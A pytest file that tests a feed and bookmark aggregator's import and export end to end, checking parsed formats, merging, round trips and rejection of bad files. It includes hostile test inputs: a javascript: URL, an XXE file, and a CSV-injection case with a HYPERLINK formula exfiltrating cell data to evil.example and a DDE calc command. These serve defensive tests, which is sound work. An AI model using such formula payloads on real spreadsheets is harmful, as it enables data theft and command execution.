"""Import and export end to end: the CLI on a real SQLite file with the real files of the shared
corpora and files written here for each edge case; every export read back by an independent
parser; round trips into a fresh database. Asserts the database state and the exact messages."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from aggregator.formats import read_import
from tests.conftest import DATA, corpus, rows, run
from tests.httpserver import LocalServer

NOT_IMPORTABLE = "is not a bookmark, feed list or read-later export"
AGGREGATOR = str(Path(sys.executable).parent / "aggregator")  # the console script


def dump(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return list(conn.iterdump())
    finally:
        conn.close()


def articles(db: Path) -> dict[str, dict[str, Any]]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        found = conn.execute("SELECT * FROM articles").fetchall()
        return {r["url"]: {**dict(r), "tags": json.loads(r["tags"])} for r in found}
    finally:
        conn.close()


def assert_consistent(db: Path) -> None:
    """The full-text index agrees with the table, and the JSON tags column with the join table."""
    conn = sqlite3.connect(db)
    try:
        conn.execute("INSERT INTO articles_fts(articles_fts, rank) VALUES('integrity-check', 1)")
        stale = conn.execute(
            "SELECT count(*) FROM articles a WHERE tags != coalesce((SELECT json_group_array(name) "
            "FROM (SELECT t.name FROM articles_tags at JOIN tags t ON t.id = at.tag_id "
            "WHERE at.article_id = a.id ORDER BY t.name COLLATE NOCASE)), '[]')"
        ).fetchone()[0]
        assert stale == 0
        assert (
            conn.execute("SELECT count(*) FROM articles_fts").fetchone()[0]
            == conn.execute("SELECT count(*) FROM articles").fetchone()[0]
        )
    finally:
        conn.close()


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


# --- OPML: the real 700-feed file -------------------------------------------------------------


def _real_700_feed_opml_imports_twice(db_path: Path, tmp_path: Path) -> None:
    import listparser

    opml = corpus("opml", "aramzs-subscriptions", "subscriptions.opml")
    batch = read_import(opml.read_bytes(), filename=opml.name)
    subs = {sub.url: sub for sub in batch.subscriptions}
    assert len(subs) > 650
    out = run("import", str(opml)).output
    assert out.splitlines()[-1] == (
        f"Imported opml: {len(subs)} new feeds (0 already there), 0 new links (0 already there)"
    )
    assert "40 repeated feed URLs merged into one each (tags combined)" in out
    stored = {url: json.loads(tags) for url, tags in rows(db_path, "SELECT url, tags FROM feeds")}
    assert set(stored) == set(subs)
    assert all(stored[url] == list(sub.tags) for url, sub in subs.items())
    assert stored["http://www.readwriteweb.com/rss.xml"] == ["On The Media"]
    assert sum(1 for tags in stored.values() if tags) > 600  # categories became feed tags
    # every imported feed is due for the next fetch
    assert rows(
        db_path,
        "SELECT count(*) FROM feeds WHERE status = 'ok' AND next_check_at IS NULL "
        "AND last_fetched_at IS NULL",
    )[0][0] == len(subs)

    before = dump(db_path)
    again = run("import", str(opml)).output.splitlines()[-1]
    assert again == (
        f"Imported opml: 0 new feeds ({len(subs)} already there), 0 new links (0 already there)"
    )
    assert dump(db_path) == before  # nothing changed, not even a timestamp

    exported = tmp_path / "feeds.opml"
    run("export", "--format", "opml", "--output", str(exported))
    parsed = listparser.parse(exported.read_bytes())
    assert not parsed.bozo
    assert {feed.url for feed in parsed.feeds} == set(subs)
    by_url = {feed.url: feed for feed in parsed.feeds}
    assert "On The Media" in by_url["http://www.readwriteweb.com/rss.xml"].tags


def test_imported_feeds_are_fetched_by_the_next_fetch(
    server: LocalServer, db_path: Path, tmp_path: Path
) -> None:
    rss = server.add_file(
        "/feeds/rss20.xml", DATA / "feeds" / "rss20.xml", content_type="application/rss+xml"
    )
    atom = server.add_file(
        "/feeds/atom.xml", DATA / "feeds" / "atom.xml", content_type="application/atom+xml"
    )
    opml = write(
        tmp_path / "feeds.opml",
        f"""<?xml version="1.0"?>
<opml version="2.0"><head><title>mine</title></head><body>
  <outline text="Sea"><outline text="Harbour" type="rss" xmlUrl="{rss}"/></outline>
  <outline text="Sky" type="rss" xmlUrl="{atom}" category="/space,science"/>
</body></opml>""",
    )
    run("import", str(opml))
    assert server.hits("/feeds/rss20.xml") == []  # offline: nothing fetched on import
    run("fetch")
    feeds = rows(
        db_path,
        "SELECT url, status, last_error, last_fetched_at IS NOT NULL, tags FROM feeds ORDER BY url",
    )
    assert [(u, s, e, f) for u, s, e, f, _ in feeds] == [
        (atom, "ok", None, 1),
        (rss, "ok", None, 1),
    ]
    assert json.loads(feeds[0][4]) == ["space", "science"]
    assert (
        rows(
            db_path,
            "SELECT count(*) FROM articles a JOIN feeds f ON f.id = a.feed_id WHERE f.url = ?",
            (rss,),
        )[0][0]
        == 4
    )
    # feed tags are tags of its articles
    assert rows(db_path, "SELECT count(*) FROM articles WHERE tags = '[\"Sea\"]'")[0][0] == 4
    assert_consistent(db_path)


# --- Pocket CSV ---------------------------------------------------------------------------------

POCKET_CSV = """status,tags,cursor,url,time_added,title,favorite
archive,news|long read|café,abc123,https://example.org/a?x=1&y=2,1600322788,\
"Commas, ""quotes"" ünïcödé — 日本語",0
unread,,def456,https://example.org/b,1600172739,Plain title,1
unread,a|b|a,ghi789,javascript:alert(1),1599806347,Not a link,0
unread,x|日本語|C++ & Rust,jkl012,https://example.org/c,1599806347,"<b>Not bold</b>, a | pipe",0
"""


def test_pocket_csv_reordered_columns_cursor_quotes_unicode(db_path: Path, tmp_path: Path) -> None:
    out = run("import", str(write(tmp_path / "part_000000.csv", POCKET_CSV))).output
    assert "warning: skipped javascript:alert(1): not an http(s) link" in out
    assert out.splitlines()[-1] == (
        "Imported pocket: 0 new feeds (0 already there), 3 new links (0 already there)"
    )
    got = articles(db_path)
    assert set(got) == {
        "https://example.org/a?x=1&y=2",
        "https://example.org/b",
        "https://example.org/c",
    }
    a, b, c = (got[u] for u in sorted(got))
    assert a["title"] == 'Commas, "quotes" ünïcödé — 日本語'
    assert a["tags"] == ["café", "long read", "news"]
    assert (a["saved_at"], a["state"], a["starred"], a["saved"]) == (
        "2020-09-17T06:06:28Z",
        "archived",
        0,
        1,
    )
    assert (b["title"], b["tags"], b["saved_at"], b["state"], b["starred"]) == (
        "Plain title",
        [],
        "2020-09-15T12:25:39Z",
        "unread",
        1,
    )
    assert c["title"] == "<b>Not bold</b>, a | pipe"
    assert c["tags"] == ["C++ & Rust", "x", "日本語"]
    assert c["saved_at"] == "2020-09-11T06:39:07Z"
    # pages come with the next fetch
    assert {r["fetch_status"] for r in got.values()} == {"pending"}
    assert rows(db_path, "SELECT count(*) FROM articles_tags")[0][0] == 6
    assert_consistent(db_path)
    # the archived link is found by state, the titles by full-text search
    exported = json.loads(run("export", "--state", "archived").output)
    assert [r["url"] for r in exported] == ["https://example.org/a?x=1&y=2"]
    found = json.loads(run("search", "ünïcödé", "--format", "json").output)
    assert [r["url"] for r in found] == ["https://example.org/a?x=1&y=2"]


def test_ten_thousand_pocket_links_with_tags_and_states(db_path: Path, tmp_path: Path) -> None:
    lines = ["title,url,time_added,cursor,tags,status"]
    lines += [
        f'"Title {i}, with comma",https://example.com/{i},{1600000000 + i},c{i},'
        f"{'t' + str(i % 7)}|all,{'archive' if i % 4 == 0 else 'unread'}"
        for i in range(10_000)
    ]
    path = write(tmp_path / "big.csv", "\n".join(lines) + "\n")
    out = run("import", str(path)).output
    assert "10000 new links" in out
    assert rows(
        db_path, "SELECT count(*), count(DISTINCT url), sum(state = 'archived') FROM articles"
    )[0] == (10_000, 10_000, 2_500)
    assert rows(
        db_path,
        "SELECT title, saved_at, tags FROM articles WHERE url = ?",
        ("https://example.com/4321",),
    )[0] == ("Title 4321, with comma", "2020-09-13T13:38:41Z", '["all","t2"]')
    assert_consistent(db_path)
    found = json.loads(run("search", "4321", "--format", "json").output)
    assert [r["url"] for r in found] == ["https://example.com/4321"]
    before = dump(db_path)
    assert "0 new links (10000 already there)" in run("import", str(path)).output
    assert dump(db_path) == before


# --- the wallabag fixtures and a real browser export --------------------------------------------

WALLABAG_FILES = [
    ("ril_export.html", "pocket"),
    ("instapaper-export.csv", "instapaper"),
    ("shaarli-bookmarks.html", "netscape"),
    ("wallabag-v2.json", "wallabag"),
    ("omnivore.json", "omnivore"),
]


def _wallabag_fixture_imports_the_expected_count(name: str, fmt: str, db_path: Path) -> None:
    folder = corpus("bookmarks", "wallabag-import-fixtures")
    expected = json.loads((folder / "expected_counts.json").read_text())[name]
    out = run("import", str(folder / name)).output
    assert out.splitlines()[-1] == (
        f"Imported {fmt}: 0 new feeds (0 already there), {expected} new links (0 already there)"
    )
    assert rows(db_path, "SELECT count(*), sum(saved) FROM articles")[0] == (expected, expected)
    assert_consistent(db_path)


def _wallabag_content_state_and_stars_are_kept(db_path: Path) -> None:
    folder = corpus("bookmarks", "wallabag-import-fixtures")
    links = []
    for name in ("wallabag-v2.json", "wallabag-v2-read.json"):
        links += read_import((folder / name).read_bytes()).links
        run("import", str(folder / name))
    got = articles(db_path)
    assert len(got) == len(links) == 8
    for link in links:
        row = got[link.url]
        assert row["title"] == (link.title or "")
        assert row["tags"] == sorted(link.tags, key=str.lower)
        assert row["state"] == (link.state or "unread")
        assert row["starred"] == int(link.starred)
        if link.saved_at:
            assert row["saved_at"] == link.saved_at
        if link.content_html:  # the article came in the file: no page to fetch
            assert row["fetch_status"] == "ok" and row["full_text"] == 1 and row["text"]
            assert "<script" not in row["content_html"].lower()
        else:
            assert row["fetch_status"] == "pending"
    assert any(link.state == "archived" for link in links)
    assert any(link.starred for link in links)
    assert any(link.content_html for link in links)


def _real_firefox_export_keeps_every_link(db_path: Path) -> None:
    path = corpus("bookmarks", "osint-bookmarks-firefox-export", "bookmarks.html")
    out = run("import", str(path)).output
    assert out.splitlines()[-1] == (
        "Imported netscape: 0 new feeds (0 already there), 318 new links (0 already there)"
    )
    got = articles(db_path)
    assert len(got) == 318  # 322 http links, four of them filed twice
    titled = [r for r in got.values() if r["title"] == "Canadian Business Research"]
    assert len(titled) == 1
    assert titled[0]["tags"] == ["Company", "Country Specific", "OSINTBookmarks"]
    assert titled[0]["saved_at"] == "2020-02-21T22:07:09Z"
    tags = {t for r in got.values() for t in r["tags"]}
    assert len(tags) == 22 and "Bookmarks Toolbar" not in tags
    assert all(r["tags"] for r in got.values())  # every link is in a folder
    assert_consistent(db_path)


# --- bad files: one line, non-zero exit, nothing imported ---------------------------------------


def _bad_files(tmp_path: Path) -> list[tuple[Path, str]]:
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    return [
        (empty, f"Error: empty.csv {NOT_IMPORTABLE} (it is empty)"),
        (DATA / "formats" / "unknown.txt", f"Error: unknown.txt {NOT_IMPORTABLE}"),
        (DATA / "formats" / "truncated.json", "Error: truncated.json"),
        (DATA / "formats" / "truncated.opml", "Error: truncated.opml"),
        (DATA / "formats" / "truncated_netscape.html", "Error: truncated_netscape.html"),
        (DATA / "formats" / "xxe.opml", "Error: xxe.opml"),
    ]


def _bad_files_fail_cleanly_and_import_nothing(db_path: Path, tmp_path: Path) -> None:
    run("import", str(write(tmp_path / "ok.csv", POCKET_CSV)))
    before = dump(db_path)
    cases = _bad_files(tmp_path)
    png = corpus("bookmarks", "linkding", "invalid_import_file.png")
    cases.append((png, f"Error: invalid_import_file.png {NOT_IMPORTABLE} (it is a binary file)"))
    for path, message in cases:
        result = run("import", str(path), ok=False)
        assert result.exit_code == 1, path
        assert len(result.output.splitlines()) == 1, result.output
        assert result.output.startswith(message), result.output
        assert dump(db_path) == before, path
    result = run("import", str(tmp_path / "missing.csv"), ok=False)
    missing = tmp_path / "missing.csv"
    assert (result.exit_code, result.output) == (1, f"Error: no such file: {missing}\n")
    result = run("import", str(tmp_path), ok=False)
    assert (result.exit_code, result.output) == (
        1,
        f"Error: cannot import {tmp_path}: it is a folder\n",
    )
    assert dump(db_path) == before


def test_a_bad_file_does_not_even_create_the_database(db_path: Path) -> None:
    result = run("import", str(DATA / "formats" / "unknown.txt"), ok=False)
    assert result.exit_code == 1
    assert not db_path.exists()


def test_forced_wrong_format_imports_nothing(db_path: Path, tmp_path: Path) -> None:
    run("import", str(write(tmp_path / "ok.csv", POCKET_CSV)))
    before = dump(db_path)
    result = run(
        "import", str(DATA / "formats" / "netscape_nested.html"), "--format", "wallabag", ok=False
    )
    assert result.exit_code == 1 and result.output.startswith("Error: ")
    assert dump(db_path) == before


# --- idempotence and merging --------------------------------------------------------------------


def test_overlapping_import_merges_tags_and_keeps_the_earliest_date(
    db_path: Path, tmp_path: Path
) -> None:
    first = write(
        tmp_path / "first.json",
        json.dumps(
            [
                {
                    "url": "https://example.net/1",
                    "title": "One",
                    "tags": ["a", "shared"],
                    "saved_at": "2021-01-01T00:00:00Z",
                    "state": "unread",
                    "note": "first note",
                },
                {
                    "url": "https://example.net/2",
                    "title": "Two",
                    "tags": ["a"],
                    "saved_at": "2021-02-01T00:00:00Z",
                },
            ]
        ),
    )
    second = write(
        tmp_path / "second.json",
        json.dumps(
            [
                {
                    "url": "https://example.net/1",
                    "title": "One renamed",
                    "tags": ["b", "Shared"],
                    "saved_at": "2020-06-01T00:00:00Z",
                    "state": "archived",
                    "starred": True,
                },
                {
                    "url": "https://example.net/3",
                    "title": "Three",
                    "tags": [],
                    "saved_at": "2021-03-01T00:00:00Z",
                },
            ]
        ),
    )
    run("import", str(first), "--tag", "import-1")
    out = run("import", str(second)).output.splitlines()[-1]
    assert out == "Imported json: 0 new feeds (0 already there), 1 new links (1 already there)"
    got = articles(db_path)
    assert len(got) == 3
    one = got["https://example.net/1"]
    assert one["tags"] == ["a", "b", "import-1", "shared"]
    assert one["title"] == "One"  # a title is filled only where there was none
    assert one["saved_at"] == "2020-06-01T00:00:00Z"  # the earliest
    assert (one["state"], one["starred"], one["note"]) == ("archived", 1, "first note")
    assert got["https://example.net/2"]["tags"] == ["a", "import-1"]
    assert got["https://example.net/3"]["tags"] == []
    assert rows(db_path, "SELECT count(*) FROM tags")[0][0] == 4  # "Shared" is "shared"
    assert_consistent(db_path)
    # the same file again leaves every row as it was
    before = dump(db_path)
    run("import", str(second))
    assert dump(db_path) == before
    # both again, in order: the first file's state is taken, then the second's (state comes from
    # the file), so rows end as they were but for their updated_at
    run("import", str(first), "--tag", "import-1")
    run("import", str(second))
    again = articles(db_path)
    for url, fields in got.items():
        assert {k: v for k, v in again[url].items() if k != "updated_at"} == {
            k: v for k, v in fields.items() if k != "updated_at"
        }


def test_import_keeps_an_article_a_feed_brought(
    server: LocalServer, db_path: Path, tmp_path: Path
) -> None:
    rss = server.add_file(
        "/feeds/rss20.xml", DATA / "feeds" / "rss20.xml", content_type="application/rss+xml"
    )
    run("subscribe", rss)
    title = rows(
        db_path, "SELECT title FROM articles WHERE url = ?", ("http://harbour.test/posts/tides",)
    )[0][0]
    pocket = write(
        tmp_path / "p.csv",
        "url,title,tags,time_added\n"
        "http://harbour.test/posts/tides,Another title,kept|saved,1600000000\n",
    )
    assert "1 already there" in run("import", str(pocket)).output
    row = articles(db_path)["http://harbour.test/posts/tides"]
    assert (row["title"], row["saved"], row["saved_at"]) == (title, 1, "2020-09-13T12:26:40Z")
    assert set(row["tags"]) == {"kept", "saved"}
    assert row["feed_id"] is not None
    assert_consistent(db_path)


# --- exports read back by independent parsers ---------------------------------------------------

NATIVE = [
    {
        "url": "https://example.com/one",
        "title": "One: <b>bold</b> & ünïcödé",
        "tags": ["python", "web dev"],
        "saved_at": "2024-05-02T08:00:01Z",
        "state": "unread",
        "note": "A note, with <angle> brackets",
        "content_html": "<p>Quokka paragraph text</p>",
    },
    {
        "url": "https://example.com/two?a=1&b=2",
        "title": "Two",
        "tags": ["python"],
        "saved_at": "2023-01-15T12:00:00Z",
        "state": "archived",
        "starred": True,
    },
    {
        "url": "https://example.com/three",
        "title": "Three 日本語",
        "tags": [],
        "saved_at": "2022-07-04T00:00:00Z",
        "state": "read",
    },
    {
        "url": "https://example.com/four",
        "title": "Four",
        "tags": ["web dev", "python", "rare"],
        "saved_at": "2021-03-03T03:03:03Z",
        "state": "unread",
        "starred": True,
    },
]


@pytest.fixture
def collection(server: LocalServer, db_path: Path, tmp_path: Path) -> dict[str, str]:
    """Four saved links (tags, states, a star, a note, content) and a fetched feed of four."""
    run("import", str(write(tmp_path / "saved.json", json.dumps(NATIVE))))
    rss = server.add_file(
        "/feeds/rss20.xml", DATA / "feeds" / "rss20.xml", content_type="application/rss+xml"
    )
    opml = write(
        tmp_path / "feeds.opml",
        f'<opml version="2.0"><body><outline text="Sea">'
        f'<outline text="Harbour" xmlUrl="{rss}"/></outline></body></opml>',
    )
    run("import", str(opml))
    run("fetch")
    return {"rss": rss}


def export(*args: str) -> str:
    return run("export", *args).output


def test_every_export_format_read_back_by_an_independent_parser(
    collection: dict[str, str], db_path: Path
) -> None:
    import feedparser
    import listparser
    from bs4 import BeautifulSoup

    total = rows(db_path, "SELECT count(*) FROM articles")[0][0]
    assert total == 8
    data = json.loads(export("--format", "json"))
    assert len(data) == total and len({r["url"] for r in data}) == total
    one = next(r for r in data if r["url"] == "https://example.com/one")
    assert one["title"] == NATIVE[0]["title"] and one["tags"] == ["python", "web dev"]
    assert one["note"] == NATIVE[0]["note"] and "Quokka" in one["text"]

    table = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
    assert len(table) == total
    assert {r["url"] for r in table} == {r["url"] for r in data}

    md = export("--format", "md")
    assert len([line for line in md.splitlines() if line.startswith("- [")]) == total
    grouped = export("--format", "md", "--group-by", "tag")
    assert "## python" in grouped.splitlines() and "## Sea" in grouped.splitlines()

    page = BeautifulSoup(export("--format", "html"), "html.parser")
    assert len(page.find_all("article")) == total and page.find("script") is None

    atom = feedparser.parse(export("--format", "atom").encode("utf-8"))
    assert not atom.bozo, atom.get("bozo_exception")
    assert atom.version == "atom10" and len(atom.entries) == total
    assert {e.link for e in atom.entries} == {r["url"] for r in data}

    marks = BeautifulSoup(export("--format", "netscape"), "html.parser").find_all("a")
    assert len(marks) == total
    by_href = {a["href"]: a for a in marks}
    assert by_href["https://example.com/one"]["tags"] == "python,web dev"
    assert by_href["https://example.com/one"]["add_date"] == "1714636801"

    feeds = listparser.parse(export("--format", "opml").encode("utf-8"))
    assert not feeds.bozo
    assert [(f.url, "Sea" in f.tags) for f in feeds.feeds] == [(collection["rss"], True)]


def test_export_filters(collection: dict[str, str], db_path: Path, tmp_path: Path) -> None:
    def urls(*args: str) -> set[str]:
        return {r["url"] for r in json.loads(export("--format", "json", *args))}

    assert urls("--tag", "python") == {
        "https://example.com/one",
        "https://example.com/two?a=1&b=2",
        "https://example.com/four",
    }
    assert urls("--tag", "python", "--tag", "web dev") == {
        "https://example.com/one",
        "https://example.com/four",
    }
    assert urls("--tag", "PYTHON", "--tag", "rare") == {"https://example.com/four"}
    assert urls("--tag", "python", "--tag", "nope") == set()
    feed_urls = urls("--feed", collection["rss"])
    assert len(feed_urls) == 4 and "http://harbour.test/posts/tides" in feed_urls
    assert urls("--tag", "Sea") == feed_urls
    assert urls("--query", "quokka") == {"https://example.com/one"}
    assert urls("--query", "quayside") == {"http://harbour.test/posts/tides"}
    assert urls("--state", "archived") == {"https://example.com/two?a=1&b=2"}
    assert urls("--state", "starred") == {
        "https://example.com/two?a=1&b=2",
        "https://example.com/four",
    }
    assert urls("--state", "read") == {"https://example.com/three"}
    assert "https://example.com/four" not in urls("--since", "2022-01-01")
    assert urls("--since", "2022-01-01", "--tag", "python") == {
        "https://example.com/one",
        "https://example.com/two?a=1&b=2",
    }
    result = run("export", "--since", "yesterday-ish", ok=False)
    assert (result.exit_code, result.output) == (1, "Error: not a date: yesterday-ish\n")
    out = tmp_path / "list.md"
    result = run("export", "--tag", "python", "--format", "md", "--output", str(out))
    assert result.output == f"Wrote 3 articles to {out}\n"
    assert out.read_text(encoding="utf-8").count("\n- [") == 3


# --- round trips into a fresh database ----------------------------------------------------------


def _fields(db: Path, *names: str) -> dict[str, tuple[Any, ...]]:
    return {url: tuple(row[n] for n in names) for url, row in articles(db).items()}


@pytest.mark.parametrize("fmt", ["netscape", "json"])
def test_round_trip_into_a_fresh_database(
    fmt: str, collection: dict[str, str], db_path: Path, tmp_path: Path
) -> None:
    exported = tmp_path / f"export.{'html' if fmt == 'netscape' else 'json'}"
    run("export", "--format", fmt, "--output", str(exported))
    fresh = tmp_path / "fresh.db"
    out = run("--db", str(fresh), "import", str(exported)).output
    assert out.splitlines()[-1].endswith("8 new links (0 already there)")
    before = articles(db_path)
    after = articles(fresh)
    assert set(after) == set(before)
    for url, row in before.items():
        copy = after[url]
        # netscape cannot hold a comma inside a tag, and gives untitled links their URL
        assert copy["tags"] == row["tags"], url
        assert copy["title"] == (row["title"] or url), url
        # a feed entry was never saved: its published date is the date it carries over; an
        # undated one is saved at the time of the import
        assert copy["saved_at"] == (row["saved_at"] or row["published"] or copy["saved_at"]), url
        assert copy["saved_at"]
        if fmt == "json":
            assert (copy["state"], copy["starred"], copy["note"]) == (
                row["state"],
                row["starred"],
                row["note"],
            ), url
        else:
            assert copy["note"] == row["note"], url
            assert (copy["state"] == "unread") == (row["state"] == "unread"), url
    assert_consistent(fresh)


# --- the progress bar: on a terminal only -------------------------------------------------------


def test_progress_bar_on_a_terminal_and_quiet_when_piped(db_path: Path, tmp_path: Path) -> None:
    lines = ["url,title,time_added"]
    lines += [f"https://example.com/{i},T{i},1600000000" for i in range(12_000)]
    path = write(tmp_path / "p.csv", "\n".join(lines) + "\n")
    piped = subprocess.run(
        [AGGREGATOR, "--db", str(tmp_path / "a.db"), "import", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    assert piped.stdout == (
        "Imported pocket: 0 new feeds (0 already there), 12000 new links (0 already there)\n"
    )
    assert piped.stderr == ""
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [AGGREGATOR, "--db", str(tmp_path / "b.db"), "import", str(path)],
        stdin=follower,
        stdout=follower,
        stderr=follower,
    )
    os.close(follower)
    seen = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    proc.wait(timeout=60)
    os.close(leader)
    text = seen.decode("utf-8", "replace")
    assert "Importing" in text and "100%" in text
    assert "12000 new links" in text


def test_csv_export_guards_spreadsheet_formulas(db_path: Path, tmp_path: Path) -> None:
    """Titles, tags and notes from an imported file are the user's data, but a spreadsheet
    opening the export must show them as text, not run them."""
    hostile = [
        {
            "url": "https://formula.example/a",
            "title": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
            "tags": ["@tag"],
            "note": "+cmd|' /C calc'!A0",
            "saved_at": "2024-05-01T00:00:00Z",
            "state": "unread",
        },
        {"url": "https://formula.example/b", "title": "-1+1", "note": "\t=1", "state": "read"},
        {"url": "https://formula.example/c", "title": "Plain = fine", "state": "read"},
    ]
    run("import", str(write(tmp_path / "hostile.json", json.dumps(hostile))))
    out = tmp_path / "out.csv"
    run("export", "--format", "csv", "--output", str(out))
    table = {r["url"]: r for r in csv.DictReader(io.StringIO(out.read_text(), newline=""))}
    a, b, c = (table[f"https://formula.example/{x}"] for x in "abc")
    assert a["title"] == "'" + hostile[0]["title"]
    assert a["tags"] == "'@tag" and a["note"] == "'+cmd|' /C calc'!A0"
    assert b["title"] == "'-1+1" and b["note"] == "'=1"  # a leading tab is trimmed on import
    assert c["title"] == "Plain = fine"
    cells = [cell for row in table.values() for cell in row.values()]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_the_real_export_files_import_through_the_cli(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The corpora's real export files through `aggregator import`, each into a database of its
    own (one test: without AGGREGATOR_CORPORA it is skipped once; tests/data/formats holds a
    file of our own per format meanwhile)."""
    corpus("bookmarks")
    corpus("opml")

    def fresh(label: str) -> tuple[Path, Path]:
        folder = tmp_path / label
        folder.mkdir()
        db = folder / "aggregator.db"
        monkeypatch.setenv("AGGREGATOR_DB", str(db))
        return db, folder

    _real_700_feed_opml_imports_twice(*fresh("opml"))
    for name, fmt in WALLABAG_FILES:
        _wallabag_fixture_imports_the_expected_count(name, fmt, fresh(name)[0])
    _wallabag_content_state_and_stars_are_kept(fresh("wallabag")[0])
    _real_firefox_export_keeps_every_link(fresh("firefox")[0])
    _bad_files_fail_cleanly_and_import_nothing(*fresh("bad"))
